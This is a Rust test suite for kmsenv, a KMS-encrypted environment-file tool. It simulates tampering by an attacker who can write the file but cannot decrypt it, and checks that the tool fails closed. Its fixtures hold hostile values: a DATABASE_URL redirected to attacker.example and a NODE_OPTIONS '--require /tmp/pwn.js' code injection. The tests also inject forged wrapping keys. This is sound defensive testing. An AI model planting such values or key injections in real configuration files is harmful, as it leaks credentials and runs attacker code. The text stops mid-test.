//! Issue 10, tried as an attacker would: someone who can write the file (a pull
//! request, a CI step, an S3 `PutObject`) but holds no `kms:Decrypt` on its data
//! key, and has a KMS key of their own (DESIGN §2.4, §2.5, §8).
//!
//! Each test starts from a genuine file made by kmsenv and proved to run a marker
//! command, edits it as the attacker would, and then shows that kmsenv fails
//! closed: `exec` exits 125 without running the command, a writer refuses and
//! leaves the file byte for byte as it was and makes no ciphertext under the
//! attacker's key (counted through the fault proxy), and no secret value is
//! printed. Every test fails when its protection is missing.

mod support;

use support::attack::*;
use support::*;

/// `--trust-key ARN`.
fn pin(arn: &str) -> impl FnOnce(Kmsenv) -> Kmsenv + '_ {
    move |k: Kmsenv| k.arg("--trust-key").arg(arn)
}

/// `KMSENV_TRUST_KEYS=value`.
fn pin_env(value: &str) -> impl FnOnce(Kmsenv) -> Kmsenv + '_ {
    move |k: Kmsenv| k.env("KMSENV_TRUST_KEYS", value)
}

/// A lax KMS that decrypts under whatever key the ciphertext names.
const DROP_KEY_ID: &str = r#"[{"op": "Decrypt", "action": "drop_key_id"}]"#;

/// No options.
fn plain(k: Kmsenv) -> Kmsenv {
    k
}

/// The 1-based line of `[env]` entry `name`.
fn line_number(text: &str, name: &str) -> usize {
    let line = entry_line(text, name);
    text.lines().position(|l| l == line).expect("the entry's line") + 1
}

/// The stderr lines that are warnings.
fn warnings(stderr: &str) -> Vec<&str> {
    stderr.lines().filter(|l| l.contains("warning")).collect()
}

// ---------------------------------------------------------------------------
// 1. Silent downgrade: keys and MAC stripped, plain values next to kms values

/// The attack of issue 10 (1): no keys, no MAC, `DATABASE_URL` now a plain value
/// pointing at the attacker, `NODE_OPTIONS` added, `API_TOKEN` (a direct kms value
/// made by `set --kms`) kept because it still decrypts.
fn strip_and_downgrade(victim: &Victim) {
    victim.edit(|text| {
        let text = strip_keys_and_mac(text);
        let line = entry_line(&text, "DATABASE_URL").to_string();
        let text = replace_once(
            &text,
            &line,
            "DATABASE_URL = \"postgres://billing:x@attacker.example/billing\"",
        );
        insert_in_env(&text, "NODE_OPTIONS = \"--require /tmp/pwn.js\"")
    });
    let text = victim.text();
    assert!(has_entry(&text, "API_TOKEN") && !text.contains("[[kmsenv.keys]]"));
}

#[test]
fn exec_fails_closed_when_the_keys_and_mac_are_stripped_and_plain_values_sit_next_to_kms_values() {
    let victim = Victim::new();

    strip_and_downgrade(&victim);

    victim.assert_exec_fails_closed(plain, &[&victim.path(), "no [[kmsenv.keys]]"]);
}

#[test]
fn check_quiet_fails_on_a_stripped_file_that_mixes_plain_and_kms_values() {
    let victim = Victim::new();
    strip_and_downgrade(&victim);

    let out = victim.kmsenv().args(["check", "-q"]).run();

    assert_ne!(out.code(), Some(0), "check -q passed a downgraded file");
    assert!(out.stderr.contains(&victim.path()), "{}", out.stderr);
    assert_no_secret(&out);
}

#[test]
fn get_refuses_a_kms_value_of_a_stripped_file_that_mixes_plain_and_kms_values() {
    let victim = Victim::new();
    strip_and_downgrade(&victim);

    let out = victim
        .kmsenv()
        .args(["get", "API_TOKEN"])
        .run()
        .kmsenv_error(&[&victim.path()]);

    assert!(out.stdout.is_empty());
    assert_no_secret(&out);
}

// ---------------------------------------------------------------------------
// 2. A wrapping key injected into the key list

#[test]
fn exec_fails_closed_when_the_attackers_wrapping_key_is_appended() {
    let victim = Victim::new();
    let attacker = Attacker::new();

    victim.edit(|text| append_key(text, &attacker.key, &attacker.wrapped_data_key()));

    victim.assert_exec_fails_closed(plain, &[&victim.path()]);
}

#[test]
fn exec_fails_closed_when_a_garbage_wrapping_key_is_appended() {
    let victim = Victim::new();
    let attacker = Attacker::new();

    victim.edit(|text| append_key(text, &attacker.key, &garbage_blob()));

    victim.assert_exec_fails_closed(plain, &[&victim.path()]);
}

#[test]
fn exec_fails_closed_when_a_garbage_wrapping_key_is_prepended() {
    // The garbage does not unwrap, so opening falls through to the genuine key:
    // only a MAC over the key list sees the extra entry.
    let victim = Victim::new();
    let attacker = Attacker::new();

    victim.edit(|text| prepend_key(text, &attacker.key, &garbage_blob()));

    victim.assert_exec_fails_closed(plain, &[&victim.path()]);
}

#[test]
fn exec_fails_closed_when_the_attackers_wrapping_key_is_prepended() {
    let victim = Victim::new();
    let attacker = Attacker::new();

    victim.edit(|text| prepend_key(text, &attacker.key, &attacker.wrapped_data_key()));

    victim.assert_exec_fails_closed(plain, &[&victim.path()]);
}

#[test]
fn exec_fails_closed_when_the_wrapping_keys_are_reordered() {
    let victim = Victim::with_keys(2);
    let blocks = key_blocks(&victim.text());
    assert_eq!(blocks.len(), 2, "{}", victim.text());

    victim.edit(|text| swap(text, &blocks[0], &blocks[1]));

    victim.assert_exec_fails_closed(plain, &[&victim.path()]);
}

#[test]
fn exec_fails_closed_when_a_wrapping_key_is_removed_by_hand() {
    let victim = Victim::with_keys(2);
    let blocks = key_blocks(&victim.text());
    assert_eq!(blocks.len(), 2, "{}", victim.text());

    victim.edit(|text| replace_once(text, &blocks[1], ""));

    victim.assert_exec_fails_closed(plain, &[&victim.path()]);
}

#[test]
fn rotate_refuses_a_file_with_an_appended_wrapping_key_and_wraps_nothing_to_it() {
    let victim = Victim::new();
    let attacker = Attacker::new();
    victim.edit(|text| append_key(text, &attacker.key, &attacker.wrapped_data_key()));

    victim.assert_writer_refuses(victim.kmsenv().arg("rotate"));

    victim.assert_nothing_encrypted_to(&attacker.key);
    victim.assert_exec_fails_closed(plain, &[]);
}

#[test]
fn rotate_refuses_a_file_with_a_prepended_wrapping_key_and_wraps_nothing_to_it() {
    let victim = Victim::new();
    let attacker = Attacker::new();
    victim.edit(|text| prepend_key(text, &attacker.key, &garbage_blob()));

    victim.assert_writer_refuses(victim.kmsenv().arg("rotate"));

    victim.assert_nothing_encrypted_to(&attacker.key);
}

#[test]
fn rotate_kms_values_refuses_a_file_with_a_prepended_wrapping_key() {
    // `--kms-values` re-encrypts direct values to the file's first key.
    let victim = Victim::new();
    let attacker = Attacker::new();
    victim.edit(|text| prepend_key(text, &attacker.key, &garbage_blob()));

    victim.assert_writer_refuses(victim.kmsenv().args(["rotate", "--kms-values"]));

    victim.assert_nothing_encrypted_to(&attacker.key);
}

#[test]
fn set_kms_without_key_refuses_a_file_with_a_prepended_wrapping_key() {
    // Without --key, `set --kms` encrypts to the file's first key: only after the
    // file verified.
    let victim = Victim::new();
    let attacker = Attacker::new();
    victim.edit(|text| prepend_key(text, &attacker.key, &attacker.wrapped_data_key()));

    victim.assert_writer_refuses(
        victim
            .kmsenv()
            .args(["set", "--kms", "NEW_TOKEN"])
            .stdin(API_TOKEN_VALUE),
    );

    victim.assert_nothing_encrypted_to(&attacker.key);
}

#[test]
fn edit_refuses_a_file_with_a_prepended_wrapping_key() {
    let victim = Victim::new();
    let attacker = Attacker::new();
    victim.edit(|text| prepend_key(text, &attacker.key, &garbage_blob()));
    // Changes the direct value (re-encrypted to a key) and adds a sealed one.
    let editor = victim.sandbox.write_executable(
        "editor.sh",
        "#!/bin/sh\nsed -i 's|^API_TOKEN=.*|API_TOKEN=\"changed\"|' \"$1\"\nprintf 'NEW_ONE=\"new\"\\n' >> \"$1\"\n",
    );

    victim.assert_writer_refuses(victim.kmsenv().env("EDITOR", &editor).arg("edit"));

    victim.assert_nothing_encrypted_to(&attacker.key);
}

#[test]
fn keys_add_refuses_a_file_with_an_appended_wrapping_key_and_wraps_nothing() {
    let victim = Victim::new();
    let attacker = Attacker::new();
    let new_key = victim.sandbox.key();
    victim.edit(|text| append_key(text, &attacker.key, &attacker.wrapped_data_key()));

    victim.assert_writer_refuses(victim.kmsenv().args(["keys", "add", &new_key]));

    victim.assert_nothing_encrypted_to(&attacker.key);
    victim.assert_nothing_encrypted_to(&new_key);
}

#[test]
fn check_fix_mac_refuses_to_bless_an_appended_wrapping_key() {
    let victim = Victim::new();
    let attacker = Attacker::new();
    victim.edit(|text| append_key(text, &attacker.key, &attacker.wrapped_data_key()));

    victim.assert_writer_refuses(victim.kmsenv().args(["check", "--fix-mac"]));

    victim.assert_nothing_encrypted_to(&attacker.key);
    victim.assert_exec_fails_closed(plain, &[]);
}

#[test]
fn check_fix_mac_refuses_to_bless_an_appended_garbage_wrapping_key() {
    let victim = Victim::new();
    let attacker = Attacker::new();
    victim.edit(|text| append_key(text, &attacker.key, &garbage_blob()));

    victim.assert_writer_refuses(victim.kmsenv().args(["check", "--fix-mac"]));

    victim.assert_exec_fails_closed(plain, &[]);
}

// ---------------------------------------------------------------------------
// 3. Data-key forgery by a principal allowed only kms:Encrypt

fn key_policy() -> serde_json::Value {
    let path =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/iam/key-policy-statements.json");
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("read {}: {e}", path.display()));
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{} is not JSON: {e}", path.display()))
}

/// The statement whose only action is `kms:Encrypt` (the contributors').
fn encrypt_only_statement() -> serde_json::Value {
    let policy = key_policy();
    let statements = policy["Statement"].as_array().expect("a Statement array");
    let only_encrypt = |s: &&serde_json::Value| match &s["Action"] {
        serde_json::Value::String(a) => a == "kms:Encrypt",
        serde_json::Value::Array(a) => a.len() == 1 && a[0] == "kms:Encrypt",
        _ => false,
    };
    let found: Vec<_> = statements.iter().filter(only_encrypt).collect();
    assert_eq!(found.len(), 1, "expected one Encrypt-only statement: {policy:#}");
    found[0].clone()
}

/// The fault-proxy rules that make moto behave as KMS would for a principal that
/// holds only the Encrypt-only statement: every other operation is denied, and
/// each `Null: {kms:EncryptionContext:K: "false"}` condition denies an Encrypt
/// whose context lacks K. Derived from the example policy, so a policy without the
/// condition lets the forgery through and the test below fails.
fn encrypt_only_rules() -> String {
    let statement = encrypt_only_statement();
    let mut rules = Vec::new();
    if let Some(null) = statement["Condition"]["Null"].as_object() {
        for (condition, value) in null {
            if let Some(key) = condition.strip_prefix("kms:EncryptionContext:")
                && value == "false"
            {
                rules.push(serde_json::json!({
                    "op": "Encrypt", "context_lacks": key,
                    "action": "error", "code": "AccessDeniedException",
                }));
            }
        }
    }
    for op in [
        "Decrypt",
        "GenerateDataKey",
        "GenerateDataKeyWithoutPlaintext",
        "ReEncrypt",
    ] {
        rules.push(serde_json::json!({"op": op, "action": "error", "code": "AccessDeniedException"}));
    }
    serde_json::Value::Array(rules).to_string()
}

#[test]
fn the_example_key_policys_encrypt_only_statement_requires_kmsenv_var() {
    let statement = encrypt_only_statement();

    assert_eq!(
        statement["Condition"]["Null"]["kms:EncryptionContext:kmsenv:var"],
        serde_json::json!("false"),
        "the Encrypt-only statement must require kmsenv:var in the context: {statement:#}"
    );
}

#[test]
fn an_encrypt_only_contributor_cannot_wrap_a_data_key_of_their_own() {
    // With Encrypt on the genuine key, a data key of the attacker's own under the
    // data-key context would make a forged file that passes every check.
    let victim = Victim::new();
    victim.proxy.rules(&encrypt_only_rules());

    let forged = encrypt_through(
        &victim.proxy,
        victim.key(),
        &ATTACKER_DATA_KEY,
        &data_key_context(),
    );

    let error = forged.expect_err("Encrypt of a data key was allowed to an Encrypt-only principal");
    assert!(
        error.body.contains("AccessDeniedException"),
        "expected AccessDeniedException: {error:?}"
    );
}

#[test]
fn an_encrypt_only_contributor_can_still_add_a_kms_value_bound_to_its_name() {
    let victim = Victim::new();
    victim.proxy.rules(&encrypt_only_rules());

    victim
        .kmsenv()
        .args(["set", "--kms", "PARTNER_TOKEN", "--key", victim.key()])
        .stdin("partner-token")
        .run()
        .ok();

    victim.proxy.rules("[]");
    let env = victim.sandbox.exec_env(&[&victim.file]);
    assert_eq!(
        env.get("PARTNER_TOKEN").map(Vec::as_slice),
        Some(&b"partner-token"[..])
    );
}

#[test]
fn keys_add_cannot_wrap_the_data_key_under_the_encrypt_only_condition() {
    // Only the Null condition applies here (Decrypt allowed): the Encrypt that wraps
    // the data key carries kmsenv:purpose, not kmsenv:var, and is denied.
    let victim = Victim::new();
    let new_key = victim.sandbox.key();
    let statement = encrypt_only_statement();
    assert!(statement["Condition"]["Null"].is_object(), "{statement:#}");
    victim.proxy.rules(
        r#"[{"op": "Encrypt", "context_lacks": "kmsenv:var", "action": "error", "code": "AccessDeniedException"}]"#,
    );

    victim.assert_writer_refuses(victim.kmsenv().args(["keys", "add", &new_key]));

    let denied = victim.calls_to(&["Encrypt"], &new_key);
    assert!(
        !denied.is_empty()
            && denied
                .iter()
                .all(|r| r.get("status").map(String::as_str) == Some("400")),
        "the wrapping Encrypt should have been tried and denied: {denied:?}"
    );
}

// ---------------------------------------------------------------------------
// 4. A direct value under the attacker's key, or under another name

#[test]
fn a_trust_pin_refuses_a_kms_value_that_names_the_attackers_key() {
    let victim = Victim::new();
    let attacker = Attacker::new();
    let blob = attacker.kms_value("NODE_OPTIONS", b"--require /tmp/pwn.js");
    victim.edit(|text| {
        insert_in_env(
            text,
            &format!(
                "NODE_OPTIONS = {{ kms = \"{blob}\", key = \"{}\", context = {{ app = \"billing\", \"kmsenv:var\" = \"NODE_OPTIONS\" }} }}",
                attacker.key
            ),
        )
    });
    // Direct values are outside the MAC (a contributor with only kms:Encrypt adds
    // them): without a pin this runs, by design (DESIGN §8).
    victim.assert_runs(plain);

    victim.assert_exec_fails_closed(pin(victim.key()), &["NODE_OPTIONS", "trust", &victim.path()]);
}

#[test]
fn a_trust_pin_refuses_a_kms_value_that_decrypts_under_the_attackers_key_without_naming_it() {
    let victim = Victim::new();
    let attacker = Attacker::new();
    let blob = attacker.kms_value("NODE_OPTIONS", b"--require /tmp/pwn.js");
    victim.edit(|text| {
        insert_in_env(
            text,
            &format!(
                "NODE_OPTIONS = {{ kms = \"{blob}\", context = {{ app = \"billing\", \"kmsenv:var\" = \"NODE_OPTIONS\" }} }}"
            ),
        )
    });
    victim.assert_runs(plain);

    victim.assert_exec_fails_closed(pin(victim.key()), &["NODE_OPTIONS", "trust", &victim.path()]);
}

#[test]
fn exec_fails_closed_when_a_kms_value_is_moved_to_another_name() {
    // Its context still says kmsenv:var = API_TOKEN: a reserved pair that is not
    // its own name, refused when the file is parsed.
    let victim = Victim::new();
    let line = entry_line(&victim.text(), "API_TOKEN").to_string();

    victim.edit(|text| {
        let moved = line.replacen("API_TOKEN =", "NODE_OPTIONS =", 1);
        replace_once(text, &line, &moved)
    });

    victim.assert_exec_fails_closed(plain, &["NODE_OPTIONS", "kmsenv:var", &victim.path()]);
}

#[test]
fn exec_fails_closed_when_a_kms_value_is_moved_to_another_name_with_its_context_rewritten() {
    // Consistent text, but KMS refuses the ciphertext under the changed context.
    let victim = Victim::new();
    let line = entry_line(&victim.text(), "API_TOKEN").to_string();

    victim.edit(|text| {
        let moved = line
            .replacen("API_TOKEN =", "NODE_OPTIONS =", 1)
            .replace("\"API_TOKEN\"", "\"NODE_OPTIONS\"");
        replace_once(text, &line, &moved)
    });

    victim.assert_exec_fails_closed(plain, &["NODE_OPTIONS", &victim.path()]);
}

// ---------------------------------------------------------------------------
// 5. The `file` flag of a direct value

#[test]
fn exec_fails_closed_when_file_true_is_removed_from_a_kms_value() {
    // The attack: a TLS private key moved from a memfd into the environment.
    let victim = Victim::new().with_tls_key_as_file();

    victim.edit(|text| {
        edit_entry(text, "TLS_KEY", |t| {
            assert!(t.remove("file").is_some());
        })
    });

    // A parse error that names where: FILE:LINE:COLUMN and the variable.
    let at = format!("{}:{}:", victim.path(), line_number(&victim.text(), "TLS_KEY"));
    victim.assert_exec_fails_closed(plain, &["TLS_KEY", &at]);
}

#[test]
fn exec_fails_closed_when_file_true_and_its_context_pair_are_both_removed() {
    // Consistent text: only KMS, which bound the pair into the ciphertext, can tell.
    let victim = Victim::new().with_tls_key_as_file();

    victim.edit(|text| {
        let text = remove_context_pair(text, "TLS_KEY", "kmsenv:file");
        edit_entry(&text, "TLS_KEY", |t| {
            assert!(t.remove("file").is_some());
        })
    });

    victim.assert_exec_fails_closed(plain, &["TLS_KEY", &victim.path()]);
}

#[test]
fn exec_fails_closed_when_the_kmsenv_file_context_pair_is_removed() {
    let victim = Victim::new().with_tls_key_as_file();

    victim.edit(|text| remove_context_pair(text, "TLS_KEY", "kmsenv:file"));

    // A parse error that names where: FILE:LINE:COLUMN and the variable.
    let at = format!("{}:{}:", victim.path(), line_number(&victim.text(), "TLS_KEY"));
    victim.assert_exec_fails_closed(plain, &["TLS_KEY", &at]);
}

#[test]
fn exec_fails_closed_when_file_true_is_added_to_a_kms_value() {
    let victim = Victim::new();

    victim.edit(|text| {
        edit_entry(text, "API_TOKEN", |t| {
            t.insert("file", true.into());
        })
    });

    // A parse error that names where: FILE:LINE:COLUMN and the variable.
    let at = format!("{}:{}:", victim.path(), line_number(&victim.text(), "API_TOKEN"));
    victim.assert_exec_fails_closed(plain, &["API_TOKEN", &at]);
}

#[test]
fn set_kms_as_file_binds_the_file_flag_in_the_context() {
    let victim = Victim::new().with_tls_key_as_file();
    let text = victim.text();

    let line = entry_line(&text, "TLS_KEY");

    assert!(
        line.contains("\"kmsenv:file\" = \"true\"") && line.contains("\"kmsenv:var\" = \"TLS_KEY\""),
        "{line}"
    );
    let env = victim.sandbox.exec_env(&[&victim.file]);
    let path = String::from_utf8(env["TLS_KEY"].clone()).expect("a path");
    assert!(
        path.starts_with("/proc/self/fd/"),
        "TLS_KEY is delivered as a file: {path}"
    );
}

// ---------------------------------------------------------------------------
// 6. Version-1 files

/// A genuine file rewritten as version 1, as kmsenv up to 728c9ab wrote it.
fn version_1_victim() -> Victim {
    let victim = Victim::new();
    victim.downgrade_to_version_1();
    assert!(victim.text().contains("version = 1"));
    victim
}

#[test]
fn a_version_1_file_opens_with_one_warning_that_names_kmsenv_upgrade() {
    let victim = version_1_victim();

    let out = victim.assert_runs(plain);

    let lines: Vec<&str> = out.stderr.lines().collect();
    assert_eq!(lines.len(), 1, "exactly one line on stderr:\n{}", out.stderr);
    for needle in ["warning", &victim.path(), "format version 1", "kmsenv upgrade"] {
        assert!(lines[0].contains(needle), "{needle:?} in:\n{}", out.stderr);
    }
}

#[test]
fn a_version_1_file_opens_without_the_warning_under_quiet() {
    let victim = version_1_victim();

    let out = victim.assert_runs(|k| k.arg("-q"));

    assert!(out.stderr.is_empty(), "-q prints nothing:\n{}", out.stderr);
}

#[test]
fn upgrade_writes_version_2_after_which_the_file_opens_without_a_warning() {
    let victim = version_1_victim();

    victim.kmsenv().arg("upgrade").run().ok();

    let text = victim.text();
    assert!(text.contains("version = 2"), "{text}");
    let out = victim.assert_runs(plain);
    assert!(warnings(&out.stderr).is_empty(), "{}", out.stderr);
    let env = victim.sandbox.exec_env(&[&victim.file]);
    assert_eq!(env["DATABASE_URL"], DATABASE_URL_VALUE.as_bytes());
    assert_eq!(env["API_TOKEN"], API_TOKEN_VALUE.as_bytes());
}

#[test]
fn upgrade_leaves_a_version_2_file_unchanged() {
    let victim = Victim::new();
    let before = victim.text();

    victim.kmsenv().arg("upgrade").run().ok();

    assert_eq!(victim.text(), before);
}

#[test]
fn the_first_write_to_a_version_1_file_upgrades_it() {
    let victim = version_1_victim();

    victim
        .kmsenv()
        .args(["set", "NEW_ONE"])
        .stdin("new-one")
        .run()
        .ok();

    assert!(victim.text().contains("version = 2"), "{}", victim.text());
    let out = victim.assert_runs(plain);
    assert!(warnings(&out.stderr).is_empty(), "{}", out.stderr);
    let env = victim.sandbox.exec_env(&[&victim.file]);
    assert_eq!(env["NEW_ONE"], b"new-one");
    assert_eq!(env["DATABASE_URL"], DATABASE_URL_VALUE.as_bytes());
}

#[test]
fn upgrade_refuses_a_version_1_file_with_an_injected_wrapping_key() {
    // The v1 MAC does not cover the keys, so the injected entry verifies: only
    // unwrapping every key to the same data key catches it.
    let victim = version_1_victim();
    let attacker = Attacker::new();
    victim.edit(|text| append_key(text, &attacker.key, &attacker.wrapped_data_key()));

    victim.assert_writer_refuses(victim.kmsenv().arg("upgrade"));

    victim.assert_nothing_encrypted_to(&attacker.key);
}

#[test]
fn upgrade_refuses_a_version_1_file_with_an_injected_garbage_key() {
    let victim = version_1_victim();
    let attacker = Attacker::new();
    victim.edit(|text| append_key(text, &attacker.key, &garbage_blob()));

    victim.assert_writer_refuses(victim.kmsenv().arg("upgrade"));
}

#[test]
fn set_refuses_a_version_1_file_with_an_injected_wrapping_key() {
    let victim = version_1_victim();
    let attacker = Attacker::new();
    victim.edit(|text| append_key(text, &attacker.key, &attacker.wrapped_data_key()));

    victim.assert_writer_refuses(victim.kmsenv().args(["set", "NEW_ONE"]).stdin("new-one"));

    victim.assert_nothing_encrypted_to(&attacker.key);
}

#[test]
fn rotate_refuses_a_version_1_file_with_an_injected_wrapping_key_and_wraps_nothing_to_it() {
    let victim = version_1_victim();
    let attacker = Attacker::new();
    victim.edit(|text| append_key(text, &attacker.key, &attacker.wrapped_data_key()));

    victim.assert_writer_refuses(victim.kmsenv().arg("rotate"));

    victim.assert_nothing_encrypted_to(&attacker.key);
}

#[test]
fn keys_remove_refuses_a_version_1_file_with_an_injected_wrapping_key() {
    // Removing a genuine key writes version 2, whose MAC would then cover the
    // attacker's entry: like every writer, it must first see every wrapping open
    // the same data key.
    let victim = Victim::with_keys(2);
    victim.downgrade_to_version_1();
    let attacker = Attacker::new();
    victim.edit(|text| append_key(text, &attacker.key, &attacker.wrapped_data_key()));

    victim.assert_writer_refuses(victim.kmsenv().args(["keys", "remove", &victim.keys[1]]));

    victim.assert_nothing_encrypted_to(&attacker.key);
}

#[test]
fn set_kms_on_a_version_1_file_without_decrypt_is_refused_with_a_hint_to_upgrade() {
    let victim = version_1_victim();
    victim.proxy.rules(&encrypt_only_rules());

    let out = victim.assert_writer_refuses(
        victim
            .kmsenv()
            .args(["set", "--kms", "PARTNER_TOKEN", "--key", victim.key()])
            .stdin("partner-token"),
    );

    assert!(out.stderr.contains("kmsenv upgrade"), "{}", out.stderr);
}

// ---------------------------------------------------------------------------
// 7. The trust pin

#[test]
fn the_trust_pin_accepts_the_genuine_file_from_the_flag() {
    let victim = Victim::new();

    victim.assert_runs(pin(victim.key()));
}

#[test]
fn the_trust_pin_accepts_the_genuine_file_from_the_environment() {
    let victim = Victim::new();

    victim.assert_runs(pin_env(victim.key()));
}

#[test]
fn the_trust_pin_accepts_a_comma_separated_list_with_blanks() {
    let victim = Victim::new();
    let other = victim.sandbox.key();

    victim.assert_runs(pin_env(&format!(" {other} , {} ", victim.key())));
}

#[test]
fn the_trust_pin_flag_replaces_the_environment_variable() {
    let victim = Victim::new();
    let attacker = Attacker::new();

    victim.assert_runs(|k| pin(victim.key())(pin_env(&attacker.key)(k)));
}

/// The attacker replaces the whole file with a consistent one of their own, made
/// by kmsenv under their key, and carries the genuine direct value over.
fn replace_with_attackers_file(victim: &Victim, attacker: &Attacker) {
    let theirs = victim.sandbox.path("attacker.toml");
    victim
        .sandbox
        .kmsenv()
        .file(&theirs)
        .args(["init", "--key", &attacker.key, "--context", "app=billing"])
        .run()
        .ok();
    victim.sandbox.set(
        &theirs,
        "DATABASE_URL",
        b"postgres://billing:x@attacker.example/billing",
    );
    victim
        .sandbox
        .set_with(&theirs, &["--plain"], "NODE_OPTIONS", b"--require /tmp/pwn.js");
    let genuine = entry_line(&victim.text(), "API_TOKEN").to_string();
    let text = insert_in_env(&victim.sandbox.read(&theirs), &genuine);
    victim.sandbox.write(&victim.file, &text);
    // Without a pin, nothing in the file itself can tell (DESIGN §8).
    victim.assert_runs(plain);
}

#[test]
fn the_trust_pin_refuses_a_file_replaced_by_one_wrapped_by_the_attackers_key() {
    let victim = Victim::new();
    let attacker = Attacker::new();
    replace_with_attackers_file(&victim, &attacker);

    victim.assert_exec_fails_closed(pin(victim.key()), &["trust", &victim.path()]);
}

#[test]
fn the_trust_pin_refuses_an_untrusted_file_before_any_kms_call() {
    let victim = Victim::new();
    let attacker = Attacker::new();
    replace_with_attackers_file(&victim, &attacker);
    victim.proxy.reset();

    victim.assert_exec_fails_closed(pin_env(victim.key()), &["trust", &victim.path()]);

    assert_eq!(victim.proxy.total(), 0, "{:?}", victim.proxy.requests());
}

#[test]
fn get_under_a_trust_pin_refuses_a_file_replaced_by_the_attackers() {
    let victim = Victim::new();
    let attacker = Attacker::new();
    replace_with_attackers_file(&victim, &attacker);

    let out = pin(victim.key())(victim.kmsenv())
        .args(["get", "DATABASE_URL"])
        .run()
        .kmsenv_error(&["trust", &victim.path()]);

    assert!(out.stdout.is_empty());
}

#[test]
fn the_trust_pin_refuses_the_attackers_file_labelled_with_the_trusted_key() {
    // The attacker's own consistent file, its wrapping entry relabelled with the
    // trusted ARN and re-MAC'd under their own data key: the pin's offline check
    // passes, so only KMS (or the answer's KeyId) can tell whose key it is.
    let victim = Victim::new();
    let attacker = Attacker::new();
    replace_with_attackers_file(&victim, &attacker);
    let theirs = victim.text();
    let their_data_key = moto()
        .decrypt(REGION, &data_key_of(&theirs), &data_key_context())
        .expect("the attacker opens their own data key");
    let relabelled = replace_once(
        &theirs,
        &format!("arn = \"{}\"", attacker.key),
        &format!("arn = \"{}\"", victim.key()),
    );
    let relabelled = with_mac(&relabelled, &v2_mac(&victim.file, &their_data_key, &relabelled));
    victim.sandbox.write(&victim.file, &relabelled);
    // Real KMS refuses a KeyId that is not the ciphertext's (so does moto); a lax
    // or hostile endpoint may not, and then kmsenv's own check must.
    victim.proxy.rules(DROP_KEY_ID);

    victim.assert_exec_fails_closed(pin(victim.key()), &[&victim.path()]);
}

#[test]
fn a_trust_pin_refuses_a_kms_value_under_the_attackers_key_that_names_the_trusted_key() {
    let victim = Victim::new();
    let attacker = Attacker::new();
    let blob = attacker.kms_value("NODE_OPTIONS", b"--require /tmp/pwn.js");
    victim.edit(|text| {
        insert_in_env(
            text,
            &format!(
                "NODE_OPTIONS = {{ kms = \"{blob}\", key = \"{}\", context = {{ app = \"billing\", \"kmsenv:var\" = \"NODE_OPTIONS\" }} }}",
                victim.key()
            ),
        )
    });
    victim.proxy.rules(DROP_KEY_ID);

    victim.assert_exec_fails_closed(pin(victim.key()), &["NODE_OPTIONS", &victim.path()]);
}

#[test]
fn the_trust_pin_refuses_a_keyless_file() {
    let victim = Victim::new();
    victim.edit(|_| "[kmsenv]\nversion = 2\n\n[env]\nNODE_OPTIONS = \"--require /tmp/pwn.js\"\n".into());
    victim.assert_runs(plain);

    victim.assert_exec_fails_closed(pin(victim.key()), &["trust", &victim.path()]);
}

#[test]
fn the_trust_pin_refuses_a_version_1_file() {
    let victim = version_1_victim();

    victim.assert_exec_fails_closed(pin(victim.key()), &["trust", &victim.path(), "kmsenv upgrade"]);
}

#[test]
fn an_empty_trust_keys_variable_is_a_usage_error() {
    let victim = Victim::new();

    victim.assert_exec_fails_closed(pin_env(""), &["KMSENV_TRUST_KEYS"]);
}

#[test]
fn a_trust_key_that_is_an_alias_is_a_usage_error() {
    let victim = Victim::new();

    victim.assert_exec_fails_closed(pin("alias/x"), &["alias/x"]);
}

#[test]
fn a_trust_pin_unwraps_the_data_key_only_through_a_trusted_key() {
    let victim = Victim::with_keys(2);
    let (first, second) = (victim.keys[0].clone(), victim.keys[1].clone());
    // Its direct value too must be under the trusted key.
    let victim = victim.with_api_token_under(&second);
    victim.proxy.reset();

    victim.assert_runs(pin(&second));

    let to_first = victim.calls_to(&["Decrypt"], &first);
    assert!(
        to_first.is_empty(),
        "Decrypt through the untrusted key: {to_first:?}"
    );
    assert!(
        !victim.calls_to(&["Decrypt"], &second).is_empty(),
        "{:?}",
        victim.proxy.requests()
    );
}

#[test]
fn set_kms_under_a_trust_pin_encrypts_to_the_first_trusted_key_without_decrypt() {
    let victim = Victim::with_keys(2);
    let second = victim.keys[1].clone();
    let victim = victim.with_api_token_under(&second);
    victim.proxy.reset();

    pin(&second)(victim.kmsenv())
        .args(["set", "--kms", "PARTNER_TOKEN"])
        .stdin("partner-token")
        .run()
        .ok();

    assert_eq!(
        victim.proxy.count_op("Decrypt"),
        0,
        "{:?}",
        victim.proxy.requests()
    );
    assert_eq!(victim.calls_to(&["Encrypt"], &second).len(), 1);
    assert!(entry_line(&victim.text(), "PARTNER_TOKEN").contains(&second));
}

#[test]
fn set_kms_without_key_or_decrypt_is_refused_with_a_hint_to_pass_key() {
    let victim = Victim::new();
    victim.proxy.rules(&encrypt_only_rules());

    let out = victim.assert_writer_refuses(
        victim
            .kmsenv()
            .args(["set", "--kms", "PARTNER_TOKEN"])
            .stdin("partner-token"),
    );

    assert!(out.stderr.contains("--key"), "{}", out.stderr);
}

// ---------------------------------------------------------------------------
// check

#[test]
fn check_reports_the_format_the_mac_and_the_key_that_opened_the_file() {
    let victim = Victim::new();

    let out = victim.kmsenv().arg("check").run().ok();

    let stdout = out.stdout_text();
    let summary = format!(
        "{}: format 2, MAC ok, data key opened with {}",
        victim.path(),
        victim.key()
    );
    assert!(stdout.lines().any(|l| l == summary), "{summary:?} in:\n{stdout}");
}

#[test]
fn check_reports_a_keyless_file_as_having_no_mac() {
    let victim = Victim::new();
    victim.edit(|_| "[kmsenv]\nversion = 2\n\n[env]\nLOG_LEVEL = \"info\"\n".into());

    let out = victim.kmsenv().arg("check").run().ok();

    let stdout = out.stdout_text();
    let summary = stdout
        .lines()
        .next()
        .unwrap_or_else(|| panic!("no summary line:\n{stdout}"));
    assert!(
        summary.starts_with(&format!("{}: ", victim.path())) && summary.ends_with("no keys, no MAC"),
        "{stdout}"
    );
}

#[test]
fn check_warns_about_a_kms_value_not_bound_to_its_name() {
    let victim = Victim::new();
    // The AWS CLI workflow: a raw blob made without kmsenv:var.
    let blob = encrypt(REGION, victim.key(), b"raw-token", &[]);
    victim
        .kmsenv()
        .args(["set", "--ciphertext", "RAW_TOKEN", "--key", victim.key()])
        .stdin(&blob)
        .run()
        .ok();

    let out = victim.kmsenv().arg("check").run().ok();

    let warning = warnings(&out.stderr);
    assert!(
        warning
            .iter()
